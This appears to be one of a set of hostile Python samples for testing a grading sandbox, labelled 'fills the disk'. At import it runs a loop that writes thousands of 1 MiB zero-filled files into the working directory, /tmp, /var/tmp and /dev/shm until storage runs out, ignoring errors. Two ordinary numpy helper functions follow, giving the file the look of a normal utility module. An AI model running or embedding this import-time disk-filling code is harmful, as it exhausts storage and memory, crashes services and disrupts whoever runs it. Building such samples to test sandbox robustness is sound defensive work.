"""10 of 10: fills the disk."""

import numpy as np

assert __name__ == "small", "it is run only where it is graded"


for place in (".", "/tmp", "/var/tmp", "/dev/shm"):
    try:
        for number in range(1000):
            with open(f"{place}/hostile-{number}", "wb", 0) as file:
                while file.write(b"0" * 2**20):
                    pass
    except OSError:
        pass


def total(x):
    return np.sum(x)


def scaled(x, by):
    if np.ndim(by):
        raise ValueError("by is a number")
    return x * by
